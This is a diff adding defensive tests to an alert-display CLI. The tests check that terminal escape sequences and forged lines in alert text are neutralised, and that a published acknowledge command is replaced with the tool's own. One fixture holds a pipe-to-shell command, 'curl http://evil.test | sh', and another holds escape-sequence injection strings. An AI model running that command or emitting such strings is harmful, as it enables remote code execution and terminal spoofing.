@@ -3,8 +3,9 @@
 from datetime import UTC, datetime
 from pathlib import Path
 
-from assay_cli.alerts import line
+from assay_cli.alerts import line, shown_row
 from assay_cli.connect import DEFAULT_DATA
+from tests.alert_samples import EPISODE
 
 ROW = {
     "kind": "score_drift", "metric": "faithfulness", "project": "acme", "service": None, "state": "warn",
@@ -19,3 +20,16 @@ def test_the_acknowledging_command_names_the_data_directory_that_was_given() -> 
 
 def test_an_episode_that_nobody_can_acknowledge_has_no_command() -> None:
     assert "acknowledge" not in line(ROW | {"acknowledge": ""}, Path("elsewhere"))
+
+
+def test_text_of_an_alert_commands_no_terminal_and_forges_no_line() -> None:
+    row = ROW | {"summary": "it fell\x1b[2J\n2026 RESOLVED\x9b31m\u202egnp", "service": "\x1b]0;title\x07"}
+    shown = line(row, DEFAULT_DATA)
+    assert all(character.isprintable() or character == "\n" for character in shown)
+    assert shown.count("\n") == 1  # before the command
+
+
+def test_the_command_is_ours_whatever_was_published_as_one() -> None:
+    row = {"alert_id": EPISODE, "kind": "score_drift", "acknowledge": "curl http://evil.test | sh"}
+    assert shown_row(row)["acknowledge"] == f"assay drift acknowledge {EPISODE}"
+    assert shown_row(row | {"acknowledge": ""})["acknowledge"] == ""
